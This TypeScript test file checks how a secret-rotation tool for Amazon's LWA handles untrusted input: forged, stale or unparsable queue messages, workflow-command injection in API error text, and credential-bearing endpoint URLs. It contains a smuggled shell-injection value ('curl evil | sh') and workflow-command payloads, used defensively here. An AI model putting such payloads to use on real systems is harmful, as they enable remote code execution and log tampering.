/**
 * Untrusted input in the fault catalogue: claims on the queue that did not come from Amazon, or no longer
 * hold a working secret, and response text that carries workflow commands. Same shape and audit as cases.ts.
 */
import { SendMessageCommand } from '@aws-sdk/client-sqs'
import { randomBytes } from 'node:crypto'
import { expect } from 'vitest'
import { newSecretNotification } from '../sim/amazon.ts'
import type { World } from '../support/world.ts'
import { errorOf, expectDone, scenario, type FaultCase } from './cases.ts'

const HOUR = 3_600_000
const GROUP = 'Untrusted input: the queue and responses'
const formatted = () => `amzn1.oa2-cs.v1.${randomBytes(32).toString('hex')}`
const plant = async (world: World, body: string) => {
  world.faults++
  await world.sqs.client.send(new SendMessageCommand({ QueueUrl: world.queueUrl, MessageBody: body }))
}

export const trustCases: FaultCase[] = [
  {
    group: GROUP,
    fault: 'A forged new-secret message dated in the future beside a real pending one',
    action: 'Ignores the forged one (dated more than 5 minutes ahead), verifies and stores the real one, deletes both.',
    userSees: 'A warning naming the forged message id; result `resumed`.',
    recovery: 'None needed. Lock the queue policy down (docs/security.md).',
    run: (tally) =>
      scenario(tally, {}, async (world) => {
        const real = await world.amazon.sendNotification(world.clientId, { eventTime: new Date(Date.now() - 60_000) })
        await plant(
          world,
          newSecretNotification({ clientId: world.clientId, secret: formatted(), eventTime: new Date(Date.now() + 2 * HOUR) }),
        )
        const run = await world.run()
        expect(run.outputs.result).toBe('resumed')
        expect(world.stored()).toBe(real)
        expectDone(world)
      }),
  },
  {
    group: GROUP,
    fault: "A planted value that is not in LWA's format, with verify: false",
    action: 'Never stores or masks it; rotates and stores the real new secret; deletes only the messages of the value it stored.',
    userSees: 'A warning naming the message; result `rotated`.',
    recovery: 'The planted message stays in the queue until its retention ends or someone deletes it; it blocks nothing.',
    run: (tally) =>
      scenario(tally, {}, async (world) => {
        await plant(world, newSecretNotification({ clientId: world.clientId, secret: 'x"; curl evil | sh; echo "', eventTime: new Date() }))
        const run = await world.run({ inputs: world.inputs({ verify: 'false' }) })
        expect(run.outputs.result).toBe('rotated')
        expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
      }),
  },
  {
    group: GROUP,
    fault: 'A genuine-looking new-secret message LWA rejects, issued over an hour ago (left by a failed run, superseded)',
    action: 'Counts it as stale (one try, no activation window), rotates afresh, clears it at commit.',
    userSees: 'A warning that the message is stale (message id and event time); result `rotated`.',
    recovery: 'None needed: no run stays stuck on it.',
    run: (tally) =>
      scenario(tally, {}, async (world) => {
        await plant(
          world,
          newSecretNotification({ clientId: world.clientId, secret: formatted(), eventTime: new Date(Date.now() - 3 * HOUR) }),
        )
        const run = await world.run()
        expect(run.outputs.result).toBe('rotated')
        expectDone(world)
      }),
  },
  {
    group: GROUP,
    fault: 'A recent new-secret message for this client that cannot be parsed, with no rotation of ours outstanding',
    action:
      'Never ignores it: it would block rotating only while a recorded rotation of ours explains it. Nothing does, so it is treated as forged: rotates, and clears it at commit.',
    userSees: 'A warning naming the message id; the run `rotated`.',
    recovery: 'None needed; if it keeps coming back, something else sends to the queue (docs/security.md).',
    run: (tally) =>
      scenario(tally, {}, async (world) => {
        const body = JSON.parse(newSecretNotification({ clientId: world.clientId, secret: formatted(), eventTime: new Date() })) as {
          payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
        }
        delete body.payload.applicationOAuthClientNewSecret.newClientSecret
        await plant(world, JSON.stringify(body))
        const run = await world.run()
        expect(run.code, run.stdout).toBe(0)
        expect(run.outputs.result).toBe('rotated')
        expect(run.warnings.join('\n')).toMatch(/names this client but .*it is cleared when this run commits/)
        expect(world.amazon.rotateCalls()).toBe(1)
        expectDone(world)
      }),
  },
  {
    group: GROUP,
    fault: 'An SP-API error body carrying workflow commands (::stop-commands::, ##[add-mask])',
    action: 'Writes remote text only neutralised: no line breaks, `::` and `##[` broken up, capped in length.',
    userSees: "The error with Amazon's text, inert.",
    recovery: 'Re-run once Amazon answers normally.',
    run: (tally) =>
      scenario(tally, {}, async (world) => {
        world.amazon.failNext('rotate', {
          status: 403,
          body: { errors: [{ code: 'Unauthorized', message: 'x\n::stop-commands::pwned\n##[add-mask]pwned' }] },
        })
        const run = await world.run()
        expect(run.code).toBe(1)
        expect(run.stdout.split('\n').filter((l) => /^\s*::stop-commands::/.test(l) || l.includes('##['))).toEqual([])
        expect(world.amazon.rotations(world.clientId)).toBe(0)
      }),
  },
  {
    group: GROUP,
    fault: "An endpoint input that is not Amazon's (lwa-endpoint on another host, credentials in a URL)",
    action: 'Refuses the input before any request; never echoes a credential.',
    userSees: 'An error naming the input and the hosts it accepts, in the log and the summary.',
    recovery: "Leave lwa-endpoint and sp-api-endpoint at Amazon's defaults.",
    run: (tally) =>
      scenario(tally, {}, async (world) => {
        world.faults++
        const run = await world.run({ inputs: world.inputs({ 'lwa-endpoint': 'https://me:pa55word@lwa.example.com/auth/o2/token' }) })
        expect(run.code).toBe(1)
        expect(errorOf(run)).toContain('Input lwa-endpoint:')
        expect(run.stdout + run.summary).not.toContain('pa55word')
        expect(world.amazon.requests).toEqual([])
      }),
  },
  {
    group: GROUP,
    fault: "Another application's messages on a shared queue while the run waits for its own",
    action: 'Gives them back at once, and waits longer (2 s, doubling to 8 s) between looks that find only them.',
    userSees: 'A successful run.',
    recovery: 'None needed; one queue per application avoids it (docs/security.md).',
    waitSeconds: 10,
    run: (tally) =>
      scenario(tally, { amazon: { notificationDelayMs: 8_000 } }, async (world) => {
        const other = world.addApplication()
        await plant(world, newSecretNotification({ clientId: other.clientId, secret: formatted(), eventTime: new Date() }))
        const run = await world.run()
        expect(run.code, run.stdout).toBe(0)
        expectDone(world)
        expect(world.pendingSecrets(other.clientId)).toHaveLength(1)
        const receives = world.sqsProxy.counts.ReceiveMessage ?? 0
        // Looking every second (two receives a look) would take about 18 over the 8 s the new secret takes.
        expect(receives).toBeLessThanOrEqual(12)
      }),
  },
]
